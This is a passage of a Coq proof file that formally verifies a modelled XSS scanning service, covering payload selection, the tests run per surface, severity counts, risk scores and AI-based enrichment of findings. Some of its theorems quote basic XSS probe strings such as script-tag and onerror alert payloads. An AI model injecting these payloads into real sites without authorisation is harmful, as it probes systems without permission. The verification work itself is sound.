  intros Hvs. unfold test_forms.
  eapply keeps_weaken.
  - apply (keeps_for_each G (λ _ vs, Forall from_test_payload vs)) with (pre := []);
      [|exact Hvs].
    intros _ form vs' Hvs'. eapply keeps_weaken.
    + apply (keeps_for_each G (λ _ vs, Forall from_test_payload vs)) with (pre := []);
        [|exact Hvs'].
      intros _ fld vs'' Hvs''. case_bool_decide.
      * by apply keeps_test_all.
      * by apply keeps_ret.
    + done.
  - done.
Qed.

Lemma keeps_test_url_params (scan_id url : string) (params payloads : list string)
    (vs : list Vulnerability) :
  Forall from_test_payload vs →
  keeps G (test_url_params env scan_id url params payloads vs) (Forall from_test_payload).
Proof.
  intros Hvs. unfold test_url_params.
  eapply keeps_weaken.
  - apply (keeps_for_each G (λ _ vs, Forall from_test_payload vs)) with (pre := []);
      [|exact Hvs].
    intros _ param vs' Hvs'. destruct (Str.char_in "=" param).
    + destruct (Str.split "=" param); [apply keeps_raise | by apply keeps_test_all].
    + by apply keeps_ret.
  - done.
Qed.

Lemma keeps_perform_xss_scan (r : ScanRequest) :
  keeps G (perform_xss_scan env r) (Forall from_test_payload).
Proof.
  unfold perform_xss_scan. apply keeps_try; [|intros _; by apply keeps_ret].
  eapply keeps_bind; [apply keeps_lift with (Q := λ _, True); done|]. intros base_url _.
  eapply keeps_bind; [apply keeps_fetch|]. intros content _.
  eapply keeps_bind; [apply keeps_lift with (Q := λ _, True); done|]. intros soup _.
  eapply keeps_bind; [by apply keeps_test_forms|]. intros vs Hvs. simpl in Hvs.
  destruct (_ && _); [|by apply keeps_ret].
  destruct (_ !! 1); [by apply keeps_test_url_params | apply keeps_raise].
Qed.

(** What enrichment leaves untouched in a finding. *)
Lemma keeps_analyze (v : Vulnerability) :
  keeps G (analyze_vulnerability_with_ai env v)
    (λ v', severity v' = severity v ∧ payload v' = payload v).
Proof.
  intros w Hw. unfold analyze_vulnerability_with_ai.
  pose proof (keeps_ask Gpt4 ("vuln_analysis_" +:+ v_id v) (analysis_prompt v) w Hw) as H1.
  destruct (ask env Gpt4 _ _ w) as [[a|e] w1]; [|done].
  destruct H1 as [Hw1 _].
  pose proof (keeps_ask Claude ("remediation_" +:+ v_id (with_summary a v))
                (remediation_prompt (with_summary a v)) w1 Hw1) as H2.
  destruct (ask env Claude _ _ w1) as [[b|e] w2]; [destruct H2|]; done.
Qed.

(** The enrichment loop of [background_scan]. *)
Lemma keeps_analyze_all (vs : list Vulnerability) :
  keeps G
    (for_each vs [] (λ analyzed_vulnerabilities vuln,
       analyzed_vuln <- analyze_vulnerability_with_ai env vuln ;;
       insert_vulnerability env analyzed_vuln ;;
       ret (analyzed_vulnerabilities ++ [analyzed_vuln])))
    (λ analyzed, severity <$> analyzed = severity <$> vs).
Proof.
  apply (keeps_for_each G (λ pre acc, severity <$> acc = severity <$> pre))
    with (pre := []); [|done].
  intros pre v acc Hacc.
  eapply keeps_bind; [apply keeps_analyze|]. intros v' [Hsev _].
  eapply keeps_bind; [apply keeps_insert_vulnerability|]. intros _ _.
  apply keeps_ret. by rewrite !fmap_app, Hacc; simpl; rewrite Hsev.
Qed.

End Frame.

(** ** Tallying *)

Lemma count_sev_cons (k : string) (v : Vulnerability) (l : list Vulnerability) :
  count_sev k (v :: l)
  = ((if decide (severity v = k) then 1 else 0) + count_sev k l)%Z.
Proof.
  unfold count_sev. rewrite filter_cons.
  destruct (decide (severity v = k)); simpl length; lia.
Qed.

Lemma count_sev_snoc (k : string) (v : Vulnerability) (l : list Vulnerability) :
  count_sev k (l ++ [v])
  = (count_sev k l + (if decide (severity v = k) then 1 else 0))%Z.
Proof.
  unfold count_sev. rewrite filter_app, length_app, filter_cons, filter_nil.
  destruct (decide (severity v = k)); simpl length; lia.
Qed.

Lemma tallied_initial : tallied initial_counts [].
Proof.
  split; [constructor|]. intros k. unfold initial_counts.
  case_bool_decide as Hk.
  - set_unfold in Hk. destruct Hk as [?|[?|[?|[?|[]]]]]; subst; reflexivity.
  - set_unfold in Hk. simpl.
    rewrite !lookup_insert_ne by (intros ?; subst; apply Hk; tauto). apply lookup_empty.
Qed.

Lemma tallied_bump (counts counts' : gmap string Z) (l : list Vulnerability)
    (v : Vulnerability) :
  tallied counts l → bump counts (severity v) = Ok counts' → tallied counts' (l ++ [v]).
Proof.
  intros [Hl Hc] Hb. unfold bump in Hb.
  destruct (counts !! severity v) as [n|] eqn:Hn; [|done].
  injection Hb as <-.
  assert (Hin : severity v ∈ ["critical"; "high"; "medium"; "low"]).
  { rewrite Hc in Hn. by case_bool_decide. }
  split.
  - apply Forall_app. split; [done | by constructor].
  - intros k. rewrite count_sev_snoc. destruct (decide (severity v = k)) as [<-|Hne].
    + rewrite lookup_insert_eq. rewrite Hc in Hn.
      rewrite bool_decide_eq_true_2 in * by done. congruence.
    + rewrite lookup_insert_ne by done. rewrite Hc.
      case_bool_decide; [f_equal; lia | done].
Qed.

Lemma tallied_lookup (counts : gmap string Z) (l : list Vulnerability) (k : string) :
  tallied counts l → k ∈ ["critical"; "high"; "medium"; "low"] →
  counts !!! k = count_sev k l.
Proof.
  intros [_ Hc] Hk. rewrite lookup_total_alt, Hc.
  by rewrite bool_decide_eq_true_2.
Qed.

(** When every label is one of the four keys, the four counts add up to the
    number of findings. *)
Lemma count_sev_total (l : list Vulnerability) :
  Forall (λ v, severity v ∈ ["critical"; "high"; "medium"; "low"]) l →
  (count_sev "critical" l + count_sev "high" l + count_sev "medium" l
   + count_sev "low" l)%Z = Z.of_nat (length l).
Proof.
  induction 1 as [|v l Hv _ IH]; [reflexivity|].
  rewrite !count_sev_cons. simpl length. set_unfold in Hv.
  destruct Hv as [Hv|[Hv|[Hv|[Hv|[]]]]]; rewrite Hv; simpl; lia.
Qed.

Lemma tallied_total (counts : gmap string Z) (l : list Vulnerability) :
  tallied counts l →
  (counts !!! "critical" + counts !!! "high" + counts !!! "medium" + counts !!! "low")%Z
  = Z.of_nat (length l).
Proof.
  intros H. rewrite !(tallied_lookup counts l) by (done || set_solver).
  apply count_sev_total, H.
Qed.

Lemma count_sev_absent (k : string) (l : list Vulnerability) :
  Forall (λ v, severity v ≠ k) l → count_sev k l = 0%Z.
Proof.
  induction 1 as [|v l Hv _ IH]; [reflexivity|].
  rewrite count_sev_cons, IH. by destruct (decide (severity v = k)).
Qed.

(** The tally loop of [background_scan]. *)
Lemma keeps_tally (G : World → Prop) (l : list Vulnerability) :
  keeps G
    (for_each l initial_counts (λ severity_counts vuln,
       lift (bump severity_counts (severity vuln))))
    (λ counts, tallied counts l).
Proof.
  apply (keeps_for_each G (λ pre counts, tallied counts pre)) with (pre := []);
    [|apply tallied_initial].
  intros pre v counts Hc. apply keeps_lift. intros counts'. by apply tallied_bump.
Qed.

Lemma from_test_payload_severity (v : Vulnerability) :
  from_test_payload v → severity v ∈ ["critical"; "medium"; "high"].
Proof.
  intros [_ Hs]. rewrite Hs.
  destruct (severity_of_cases (payload v)) as [-> | [-> | ->]]; set_solver.
Qed.

(** ** Invariants of the result records *)

Lemma Forall_update_first (P : ScanResult → Prop) (sid : string)
    (patch : ScanResult → ScanResult) (l : list ScanResult) :
  (∀ d, P d → P (patch d)) → Forall P l → Forall P (update_first sid patch l).
Proof.
  intros Hp. induction 1 as [|d l Hd Hl IH]; simpl; [constructor|].
  destruct (String.eqb (sr_scan_id d) sid); constructor; auto.
Qed.

Section StoreInvariant.

Variable env : Env.
Variable P : ScanResult → Prop.

Lemma store_inv_stable : stable (store_inv P).
Proof. intros w w' Hr _. unfold store_inv. by rewrite Hr. Qed.

Lemma keeps_update_scan_result (sid : string) (patch : ScanResult → ScanResult) :
  (∀ d, P d → P (patch d)) →
  keeps (store_inv P) (update_scan_result env sid patch) (λ _, True).
Proof.
  intros Hp w Hw. unfold update_scan_result.
  destruct (store_ok env (ticks w)); [|done].
  destruct (find_one sid (db_scan_results w)); [|done].
  split; [|done]. by apply Forall_update_first.
Qed.

Lemma keeps_insert_scan_result (d : ScanResult) :
  P d → keeps (store_inv P) (insert_scan_result env d) (λ _, True).
Proof.
  intros Hd w Hw. unfold insert_scan_result.
  destruct (store_ok env (ticks w)); [|done].
  split; [|done]. apply Forall_app. split; [done | by constructor].
Qed.

(** What the three patches and the initial record must satisfy for [P] to
    hold of every record, whatever the scans that run. *)
Hypothesis P_pending : ∀ fresh_id sid, P (pending_result fresh_id sid).
Hypothesis P_running : ∀ t d, P d → P (set_running t d).
Hypothesis P_failed : ∀ t d, P d → P (set_failed t d).
Hypothesis P_completed :
  ∀ (analyzed : list Vulnerability) counts summary duration t d,
    tallied counts analyzed →
    Forall (λ v, severity v ∈ ["critical"; "medium"; "high"]) analyzed →
    P (set_completed (Z.of_nat (length analyzed)) counts summary duration t d).

Lemma keeps_create_scan (r : ScanRequest) :
  keeps (store_inv P) (create_scan env r) (λ _, True).
Proof.
  unfold create_scan.
  eapply keeps_bind; [apply keeps_insert_scan, store_inv_stable|]. intros _ _.
  eapply keeps_bind; [apply keeps_fresh_uuid, store_inv_stable|]. intros rid _.
  eapply keeps_bind; [apply keeps_insert_scan_result, P_pending|]. intros _ _.
  by apply keeps_ret.
Qed.

Lemma keeps_background_scan (r : ScanRequest) :
  keeps (store_inv P) (background_scan env r) (λ _, True).
Proof.
  pose proof store_inv_stable as Hst.
  unfold background_scan. apply keeps_try.
  - eapply keeps_bind; [by apply keeps_now|]. intros started _.
    eapply keeps_bind; [apply keeps_update_scan_result, P_running|]. intros _ _.
    eapply keeps_bind; [by apply keeps_now|]. intros start_time _.
    eapply keeps_bind; [by apply keeps_perform_xss_scan|]. intros vs Hvs.
    eapply keeps_bind; [by apply keeps_analyze_all|]. intros analyzed Han.
    eapply keeps_bind; [by apply keeps_now|]. intros end_time _.
    eapply keeps_bind; [apply keeps_tally|]. intros counts Hc.
    assert (Forall (λ v, severity v ∈ ["critical"; "medium"; "high"]) analyzed) as H3.
    { apply Forall_fmap with (f := severity) (P := λ s, s ∈ ["critical"; "medium"; "high"]).
      rewrite Han. apply Forall_fmap.
      eapply Forall_impl; [exact Hvs|]. apply from_test_payload_severity. }
    eapply keeps_bind with (Q := λ _, True).
    + destruct analyzed; [by apply keeps_ret | by apply keeps_ask].
    + intros summary _. apply keeps_update_scan_result. intros d _.
      by apply P_completed.
  - intros _. eapply keeps_bind; [by apply keeps_now|]. intros failed_at _.
    apply keeps_update_scan_result, P_failed.
Qed.

Lemma reachable_store_inv (w : World) : reachable env w → store_inv P w.
Proof.
  induction 1 as [|r w _ IH|r w _ IH|sid w _ IH].
  - constructor.
  - pose proof (keeps_create_scan r w IH) as H.
    destruct (create_scan env r w) as [[a|e] w']; simpl; [by destruct H | done].
  - pose proof (keeps_background_scan r w IH) as H.
    destruct (background_scan env r w) as [[a|e] w']; simpl; [by destruct H | done].
  - pose proof (keeps_get_scan_vulnerabilities env _ store_inv_stable sid w IH) as H.
    destruct (get_scan_vulnerabilities env sid w) as [[a|e] w']; simpl;
      [by destruct H | done].
Qed.

End StoreInvariant.

Lemma demo_world_reachable : reachable demo_env demo_world.
Proof. apply reach_background, reach_create, reach_initial. Qed.

(** C4: in every store the endpoints and the background task can lead to,
    a result record with status "completed" has [total_vulnerabilities]
    equal to the sum of its four per-severity counts. *)
Theorem completed_total_is_sum_of_counts (env : Env) (w : World) (d : ScanResult) :
  reachable env w → d ∈ db_scan_results w → status d = "completed" →
  total_vulnerabilities d
  = (critical_count d + high_count d + medium_count d + low_count d)%Z.
Proof.
  intros Hw Hd.
  pose (P := λ d : ScanResult, status d = "completed" →
               total_vulnerabilities d
               = (critical_count d + high_count d + medium_count d + low_count d)%Z).
  assert (store_inv P w) as Hinv.
  { apply (reachable_store_inv env P); unfold P; simpl; try done.
    intros analyzed counts _ _ _ _ Hc _ _. symmetry. by apply tallied_total. }
  unfold store_inv in Hinv. rewrite Forall_forall in Hinv. by apply Hinv.
Qed.

Lemma completed_total_is_sum_of_counts_witness :
  let d := default no_result (head (db_scan_results demo_world)) in
  status d = "completed"
  ∧ [total_vulnerabilities d; critical_count d; high_count d; medium_count d; low_count d]
    = [6; 0; 0; 6; 0]%Z
  ∧ total_vulnerabilities d
    = (critical_count d + high_count d + medium_count d + low_count d)%Z.
Proof.
  intros d. split; [reflexivity|]. split; [reflexivity|].
  apply (completed_total_is_sum_of_counts demo_env demo_world d).
  - exact demo_world_reachable.
  - vm_compute. left.
  - reflexivity.
Defined.

(** C5: in every such store, a result record with status "completed" holds
    the risk score [min(10.0, total_vulnerabilities * 2.0)]: twice the total
    below five findings, ten from five findings on. *)
Theorem completed_risk_score (env : Env) (w : World) (d : ScanResult) :
  reachable env w → d ∈ db_scan_results w → status d = "completed" →
  ai_risk_score d = Some (Qmin 10 (inject_Z (total_vulnerabilities d) * 2))
  ∧ ∃ q, ai_risk_score d = Some q
         ∧ (q <= 10)%Q
         ∧ ((total_vulnerabilities d < 5)%Z → q == inject_Z (2 * total_vulnerabilities d))
         ∧ ((5 <= total_vulnerabilities d)%Z → q == 10).
Proof.
  intros Hw Hd Hs.
  pose (P := λ d : ScanResult, status d = "completed" →
               ai_risk_score d = Some (Qmin 10 (inject_Z (total_vulnerabilities d) * 2))).
  assert (store_inv P w) as Hinv.
  { apply (reachable_store_inv env P); unfold P; simpl; done. }
  unfold store_inv in Hinv. rewrite Forall_forall in Hinv.
  specialize (Hinv d Hd Hs). split; [done|].
  eexists. split; [exact Hinv|]. split; [apply Q.le_min_l|]. split.
  - intros Hlt. rewrite Q.min_r.
    + unfold Qeq, inject_Z, Qmult. simpl. lia.
    + unfold Qle, inject_Z, Qmult. simpl. lia.
  - intros Hge. rewrite Q.min_l; [reflexivity|].
    unfold Qle, inject_Z, Qmult. simpl. lia.
Qed.

Lemma completed_risk_score_witness :
  let d := default no_result (head (db_scan_results demo_world)) in
  total_vulnerabilities d = 6%Z ∧ ai_risk_score d = Some (Qmin 10 (6 * 2)).
Proof.
  intros d. split; [reflexivity|].
  apply (completed_risk_score demo_env demo_world d).
  - exact demo_world_reachable.
  - vm_compute. left.
  - reflexivity.
Defined.

(** C10: [test_payload] only ever labels a finding critical, medium or high,
    never low; so in every store the endpoints and the background task can
    lead to, a completed result record has [low_count] zero. *)
Theorem no_low_severity :
  (∀ fresh_id now scan_id endpoint parameter payload0 vuln_type v,
     test_payload fresh_id now scan_id endpoint parameter payload0 vuln_type = Some v →
     severity v ∈ ["critical"; "medium"; "high"] ∧ severity v ≠ "low")
  ∧ (∀ env w d,
       reachable env w → d ∈ db_scan_results w → status d = "completed" →
       low_count d = 0%Z).
Proof.
  split.
  - intros fresh_id now scan_id endpoint parameter payload0 vuln_type v Hv.
    apply test_payload_Some in Hv as (_ & -> & _).
    destruct (severity_of_cases payload0) as [-> | [-> | ->]];
      (split; [set_solver | done]).
  - intros env w d Hw Hd.
    pose (P := λ d : ScanResult, status d = "completed" → low_count d = 0%Z).
    assert (store_inv P w) as Hinv.
    { apply (reachable_store_inv env P); unfold P; simpl; try done.
      intros analyzed counts _ _ _ _ Hc H3 _.
      rewrite (tallied_lookup counts analyzed) by (done || set_solver).
      apply count_sev_absent. eapply Forall_impl; [exact H3|].
      intros v Hv. simpl in Hv. set_unfold in Hv.
      destruct Hv as [Hv|[Hv|[Hv|[]]]]; rewrite Hv; done. }
    unfold store_inv in Hinv. rewrite Forall_forall in Hinv. by apply Hinv.
Qed.

(** ** Payload selection *)

(** C2: the payload sequence a request selects is fixed by its scan type:
    the first three basic payloads for "quick"; the basic, advanced and
    evasion catalogs in this order, fifteen payloads, for "comprehensive";
    the caller's own sequence for "custom". *)
Theorem select_payloads_by_scan_type
    (id url : string) (custom : option (list string)) (forms urls : bool) (depth created : Z) :
  let request kind :=
    {| rq_id := id; target_url := url; scan_type := kind; custom_payloads := custom;
       include_forms := forms; include_urls := urls; max_depth := depth;
       rq_created_at := created |} in
  select_payloads (request "quick") = take 3 (XSS_PAYLOADS !!! "basic")
  ∧ select_payloads (request "quick")
    = [ "<script>alert('XSS')</script>"; "<img src=x onerror=alert('XSS')>";
        "javascript:alert('XSS')" ]
  ∧ select_payloads (request "comprehensive")
    = (XSS_PAYLOADS !!! "basic") ++ (XSS_PAYLOADS !!! "advanced")
      ++ (XSS_PAYLOADS !!! "evasion")
  ∧ length (select_payloads (request "comprehensive")) = 15
  ∧ select_payloads (request "custom") = default [] custom.
Proof.
  intros request. repeat split; try reflexivity.
  unfold select_payloads. simpl. by destruct custom as [[|p ps]|].
Qed.

Example select_custom :
  select_payloads
    {| rq_id := "s"; target_url := "u"; scan_type := "custom";
       custom_payloads := Some ["<x onload=a>"; "plain"]; include_forms := true;
       include_urls := true; max_depth := 3; rq_created_at := 0 |}
  = ["<x onload=a>"; "plain"].
Proof. reflexivity. Qed.

(** ** The tests a scan performs *)

Lemma flat_map_nested {A B C} (f : A → list B) (g : B → list C) (l : list A) :
  flat_map g (flat_map f l) = flat_map (λ x, flat_map g (f x)) l.
Proof. induction l as [|x l IH]; simpl; [done|]. by rewrite flat_map_app, IH. Qed.

Lemma flat_map_single {A B} (f : A → B) (l : list A) :
  flat_map (λ x, [f x]) l = map f l.
Proof. induction l as [|x l IH]; simpl; [done | by rewrite IH]. Qed.

Section Traces.

Variable env : Env.

Lemma emits_ret {A} (a : A) : emits (ret a) [].
Proof. intros evs w Hw. simpl. by rewrite app_nil_r. Qed.

Lemma emits_bind {A B} (m : M A) (f : A → M B) (e1 e2 : list Event) :
  emits m e1 → (∀ a, emits (f a) e2) → emits (bind m f) (e1 ++ e2).
Proof.
  intros Hm Hf evs. eapply triple_bind; [apply Hm|].
  intros a. eapply triple_conseq; [apply (Hf a (evs ++ e1)) | done | | done].
  intros b w Hw. simpl in Hw. by rewrite Hw, app_assoc.
Qed.

Lemma emits_for_each {A S} (f : A → list Event) (body : S → A → M S) (l : list A) :
  (∀ s x, emits (body s x) (f x)) → ∀ s, emits (for_each l s body) (flat_map f l).
Proof.
  intros Hbody. induction l as [|x l IH]; intros s; simpl.
  - apply emits_ret.
  - apply emits_bind; [apply Hbody | apply IH].
Qed.

Lemma emits_call_test_payload (sid ep par pl kind : string) :
  emits (call_test_payload env sid ep par pl kind) [Tested ep par pl kind].
Proof. intros evs w Hw. simpl. by rewrite Hw. Qed.

Lemma emits_test_all (sid ep par kind : string) (payloads : list string)
    (vs : list Vulnerability) :
  emits (test_all env sid ep par kind payloads vs)
    (map (λ p, Tested ep par p kind) payloads).
Proof.
  unfold test_all. rewrite <- flat_map_single.
  apply emits_for_each. intros vs' pl.
  rewrite <- (app_nil_r [Tested ep par pl kind]).
  apply emits_bind; [apply emits_call_test_payload | intros o; apply emits_ret].
Qed.

Lemma emits_test_forms (sid base_url : string) (forms : list Form)
    (payloads : list string) (vs : list Vulnerability) :
  emits (test_forms env sid base_url forms payloads vs)
    (flat_map (tests_of payloads) (form_surfaces base_url forms)).
Proof.
  unfold test_forms, form_surfaces. rewrite flat_map_nested.
  apply emits_for_each. intros vs' form. rewrite flat_map_nested.
  apply emits_for_each. intros vs'' fld. unfold eligible.
  case_bool_decide; simpl.
  - rewrite app_nil_r. apply emits_test_all.
  - apply emits_ret.
Qed.

Lemma emits_test_url_params (sid url : string) (params payloads : list string)
    (vs : list Vulnerability) :
  emits (test_url_params env sid url params payloads vs)
    (flat_map (tests_of payloads)
       (flat_map (λ param,
          if Str.char_in "=" param
          then [UrlParam url (default "" (head (Str.split "=" param)))]
          else []) params)).
Proof.
  unfold test_url_params. rewrite flat_map_nested.
  apply emits_for_each. intros vs' param.
  destruct (Str.char_in "=" param); simpl; [|apply emits_ret].
  pose proof (StrFacts.split_nonempty "=" param) as Hne.
  destruct (Str.split "=" param) as [|name rest]; [done|]. simpl.
  rewrite app_nil_r. apply emits_test_all.
Qed.

End Traces.

Lemma emits_run {A} (m : M A) (new : list Event) (w : World) :
  emits m new → ∃ a w', m w = (Ok a, w') ∧ events w' = events w ++ new.
Proof.
  intros Hm. specialize (Hm (events w) w eq_refl).
  destruct (m w) as [[a|e] w']; [by exists a, w' | done].
Qed.

Lemma split_second (c : ascii) (s : string) :
  Str.char_in c s = true → is_Some (Str.split c s !! 1).
Proof.
  unfold Str.char_in. induction s as [|a s IH]; simpl; [done|].
  rewrite Ascii.eqb_sym. destruct (Ascii.eqb a c) eqn:Hac; simpl.
  - intros _. pose proof (StrFacts.split_nonempty c s).
    destruct (Str.split c s); [done | by eexists].
  - intros H. specialize (IH H). destruct (Str.split c s) as [|hd tl]; [by destruct IH|].
    exact IH.
Qed.

(** The tests of one scan: the surfaces in crawl order, each with its block
    of tests. *)
Lemma perform_xss_scan_events (env : Env) (r : ScanRequest) (w : World) :
  events (perform_xss_scan env r w).2
  = events w ++ flat_map (tests_of (select_payloads r)) (surfaces env r).
Proof.
  unfold perform_xss_scan, surfaces, try_except.
  unfold bind at 1. unfold lift at 1.
  destruct (urlparse_base env (target_url r)) as [base_url|]; simpl;
    [|by rewrite app_nil_r; destruct (http_get env (target_url r)) as [|? [?|]]].
  unfold bind at 1. unfold fetch.
  destruct (http_get env (target_url r)) as [|code [content|]]; simpl;
    try by rewrite app_nil_r.
  unfold bind at 1. unfold lift at 1.
  destruct (find_forms env content) as [soup|]; simpl; [|by rewrite app_nil_r].
  match goal with
  | |- events (match ?m w with _ => _ end).2 = _ =>
      assert (emits m
        (flat_map (tests_of (select_payloads r))
           (form_surfaces base_url (if include_forms r then soup else []))
         ++ flat_map (tests_of (select_payloads r))
              (if include_urls r && Str.char_in "?" (target_url r)
               then url_surfaces (target_url r) else []))) as Hm
  end.
  { apply emits_bind; [apply emits_test_forms|]. intros vs.
    destruct (include_urls r && Str.char_in "?" (target_url r)) eqn:Hq;
      [|apply emits_ret].
    apply andb_true_iff in Hq as [_ Hq]. apply split_second in Hq as [query Hq].
    unfold url_surfaces. rewrite Hq. simpl. apply emits_test_url_params. }
  destruct (emits_run _ _ w Hm) as (vs & w' & Hrun & Hev).
  rewrite Hrun. simpl. by rewrite Hev, flat_map_app.
Qed.

(** C3: the tests a scan performs are, surface by surface in crawl order,
    the whole selected sequence for each eligible form field and the first
    five entries of it (all of it when it is shorter) for each URL
    parameter; with the comprehensive selection that is fifteen tests per
    form field and five per URL parameter. *)
Theorem tests_per_surface (env : Env) (r : ScanRequest) (w : World) :
  let payloads := select_payloads r in
  events (perform_xss_scan env r w).2
  = events w
    ++ flat_map (λ s,
         match s with
         | FormField ep name => map (λ p, Tested ep name p "form_input") payloads
         | UrlParam ep name => map (λ p, Tested ep name p "url_parameter") (take 5 payloads)
         end) (surfaces env r)
  ∧ length (take 5 payloads) ≤ 5
  ∧ take 5 payloads `prefix_of` payloads
  ∧ (scan_type r = "comprehensive" → length payloads = 15 ∧ length (take 5 payloads) = 5).
Proof.
  intros payloads. split; [apply perform_xss_scan_events|].
  split; [rewrite length_take; lia|]. split.
  - exists (drop 5 payloads). by rewrite take_drop.
  - intros Hc. unfold payloads, select_payloads. rewrite Hc. by vm_compute.
Qed.

Example quick_scan_of_one_parameter :
  events (perform_xss_scan not_found_env demo_request initial_world).2
  = map (λ p, Tested "https://x.test/p?name=foo" "name" p "url_parameter")
      [ "<script>alert('XSS')</script>"; "<img src=x onerror=alert('XSS')>";
        "javascript:alert('XSS')" ].
Proof. vm_compute. reflexivity. Qed.

Example tests_per_surface_demo :
  events (perform_xss_scan demo_env
            (sample_request "https://x.test/p?name=foo&flag" "comprehensive")
            initial_world).2
  = map (λ p, Tested "https://x.test/search" "q" p "form_input")
      ((XSS_PAYLOADS !!! "basic") ++ (XSS_PAYLOADS !!! "advanced")
       ++ (XSS_PAYLOADS !!! "evasion"))
    ++ map (λ p, Tested "https://x.test/p?name=foo&flag" "name" p "url_parameter")
         (XSS_PAYLOADS !!! "basic").
Proof. vm_compute. reflexivity. Qed.

(** ** Enrichment *)

(** C7, as the specification states it, fails: when the technical analysis
    answers and the remediation call raises, the analysis text does not
    stay in [ai_summary]. *)
Lemma enrichment_fallback_per_field_fails :
  ¬ (∀ env v w analysis,
       llm env (ticks w) Gpt4 ("vuln_analysis_" +:+ v_id v) (analysis_prompt v)
         = Some analysis →
       llm env (S (ticks w)) Claude ("remediation_" +:+ v_id v) (remediation_prompt v)
         = None →
       ∃ v', returned (analyze_vulnerability_with_ai env v w) = Some v'
             ∧ ai_summary v' = Some analysis
             ∧ remediation_suggestion v' = Some remediation_fallback).
Proof.
  intros H.
  destruct (H remediation_down_env sample_finding initial_world "analysis"
              eq_refl eq_refl) as (v' & Hv' & Hsum & _).
  vm_compute in Hv'. injection Hv' as <-. vm_compute in Hsum. discriminate.
Qed.

(** C7, amended: enrichment never raises and touches neither the result
    records nor the statuses written, so it cannot fail the scan.  When both
    calls answer, each field holds the oracle's text.  When either call
    raises, both fields receive their fixed fallback texts; the remediation
    call is only made after the analysis call answered, and an analysis text
    already received is then replaced by the fallback too. *)
Theorem enrichment_fallback (env : Env) (v : Vulnerability) (w : World) :
  ∃ v' w',
    analyze_vulnerability_with_ai env v w = (Ok v', w')
    ∧ db_scan_results w' = db_scan_results w
    ∧ (∀ sid, status_history sid (events w') = status_history sid (events w))
    ∧ (v_id v', v_scan_id v', vulnerability_type v', severity v', endpoint v')
      = (v_id v, v_scan_id v, vulnerability_type v, severity v, endpoint v)
    ∧ (parameter v', payload v', evidence v', false_positive v', v_created_at v')
      = (parameter v, payload v, evidence v, false_positive v, v_created_at v)
    ∧ match llm env (ticks w) Gpt4 ("vuln_analysis_" +:+ v_id v) (analysis_prompt v) with
      | Some analysis =>
          match llm env (S (ticks w)) Claude ("remediation_" +:+ v_id v)
                  (remediation_prompt v) with
          | Some remediation =>
              ai_summary v' = Some analysis
              ∧ remediation_suggestion v' = Some remediation
          | None =>
              ai_summary v' = Some summary_fallback
              ∧ remediation_suggestion v' = Some remediation_fallback
          end
      | None =>
          ai_summary v' = Some summary_fallback
          ∧ remediation_suggestion v' = Some remediation_fallback
          ∧ events w' = events w ++ [Asked Gpt4 ("vuln_analysis_" +:+ v_id v)
                                       (analysis_prompt v)]
      end.
Proof.
  unfold analyze_vulnerability_with_ai, ask. simpl.
  destruct (llm env (ticks w) Gpt4 _ _) as [analysis|]; simpl.
  - change (remediation_prompt (with_summary analysis v)) with (remediation_prompt v).
    destruct (llm env (S (ticks w)) Claude _ _) as [remediation|]; simpl;
      eexists _, _; (split; [reflexivity|]); simpl;
      repeat split; intros; by rewrite !status_history_app, !app_nil_r.
  - eexists _, _. split; [reflexivity|]. simpl.
    repeat split; intros; by rewrite !status_history_app, !app_nil_r.
Qed.

Example enrichment_both_answer :
  (λ v, (ai_summary v, remediation_suggestion v))
  <$> returned (analyze_vulnerability_with_ai demo_env sample_finding initial_world)
  = Some (Some "analysis", Some "advice").
Proof. reflexivity. Qed.

Example enrichment_remediation_raises :
  (λ v, (ai_summary v, remediation_suggestion v))
  <$> returned (analyze_vulnerability_with_ai remediation_down_env sample_finding
                  initial_world)
  = Some (Some summary_fallback, Some remediation_fallback).
Proof. reflexivity. Qed.

(** ** Listing *)

#[global] Instance severity_le_total : Total severity_le.
Proof. intros a b. unfold severity_le. apply (total String.le). Qed.

#[global] Instance severity_le_trans : Transitive severity_le.
Proof. intros a b c. unfold severity_le. apply (transitivity (R := String.le)). Qed.


Example listing_low_before_medium :
  let finding sev :=
    {| v_id := sev; v_scan_id := "scan-1"; vulnerability_type := "XSS_form_input";
       severity := sev; endpoint := "e"; parameter := "p"; payload := "x";
       evidence := ""; ai_summary := None; remediation_suggestion := None;
       false_positive := false; v_created_at := 0 |} in
  severity <$> find_sorted "scan-1"
                 [finding "medium"; finding "critical"; finding "low"; finding "high"]
  = ["critical"; "high"; "low"; "medium"].
Proof. vm_compute. reflexivity. Qed.

(** ** The lifecycle of a scan *)

Lemma find_one_update_first (sid : string) (patch : ScanResult → ScanResult)
    (l : list ScanResult) :
  (∀ d, sr_scan_id (patch d) = sr_scan_id d) →
  find_one sid (update_first sid patch l) = patch <$> find_one sid l.
Proof.
  intros Hp. induction l as [|d l IH]; simpl; [done|].
  destruct (String.eqb (sr_scan_id d) sid) eqn:Hd; simpl.
  - by rewrite Hp, Hd.
  - by rewrite Hd.
Qed.

Lemma find_one_snoc (sid : string) (l : list ScanResult) (d : ScanResult) :
  find_one sid l = None → sr_scan_id d = sid → find_one sid (l ++ [d]) = Some d.
Proof.
  intros Hl Hd. induction l as [|x l IH]; simpl in *.
  - by rewrite Hd, String.eqb_refl.
  - destruct (String.eqb (sr_scan_id x) sid); [done | by apply IH].
Qed.



Section Lifecycle.

Variable env : Env.

Lemma not_reliable (n : nat) : store_ok env n = false → ¬ reliable env.
Proof. intros Hn Hr. by rewrite Hr in Hn. Qed.







Lemma triple_pure {A} (P : World → Prop) (φ : Prop) (m : M A) Q E :
  (φ → triple P m Q E) → triple (λ w, P w ∧ φ) m Q E.
Proof. intros H w [Hw Hφ]. by apply H. Qed.



End Lifecycle.






Example status_when_summary_call_raises :
  status_history "scan-1"
    (events (scan_lifecycle
               (sample_env (Response 200 (Some "")) (λ _, true)
                  (λ n p, if (n <? 19) then Some "text" else None))
               demo_request initial_world).2)
  = ["pending"; "running"; "failed"].
Proof. by vm_compute. Qed.

(** ** A target that cannot be fetched *)

Lemma perform_xss_scan_fetch_raises (env : Env) (r : ScanRequest) (w : World) :
  fetch_raises env (target_url r) → perform_xss_scan env r w = (Ok [], w).
Proof.
  unfold fetch_raises, perform_xss_scan, try_except, bind, lift, fetch.
  destruct (urlparse_base env (target_url r)); [|done].
  destruct (http_get env (target_url r)) as [|code [content|]]; try done.
  simpl. by intros ->.
Qed.

(** C6, as the specification states it, fails: a response outside the 2xx
    range is crawled like any other, so the parameters of the URL are still
    tested and findings are reported. *)
Lemma non_2xx_response_is_crawled :
  ¬ (∀ env r w,
